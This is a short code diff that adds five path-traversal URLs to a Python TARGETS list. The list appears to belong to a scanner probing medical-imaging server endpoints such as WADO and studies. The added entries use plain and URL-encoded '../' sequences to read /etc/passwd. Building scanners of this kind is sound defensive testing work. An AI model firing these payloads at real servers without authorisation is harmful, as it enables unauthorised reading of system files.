@@ -50,6 +50,11 @@ TARGETS = [
     "/wado?requestType=WADO&studyUID=../../etc/passwd&seriesUID=1.2&objectUID=1.2",
     "/api/v1/peers/..%2f..%2fetc%2fpasswd/echo",
     "/api/v1/users/..%2f..%2fetc%2fpasswd",
+    "/page/static/0/../../../../../../etc/passwd",
+    "/page/static/..%2f..%2f..%2fetc/passwd",
+    "/page/static/0/..%2f..%2f..%2f..%2fetc%2fpasswd",
+    "/page/static/0//etc/passwd",
+    "/studies/..%2f..%2fetc%2fpasswd",
     "http://127.0.0.1/../../etc/passwd",
     "file:///etc/passwd",
 ]
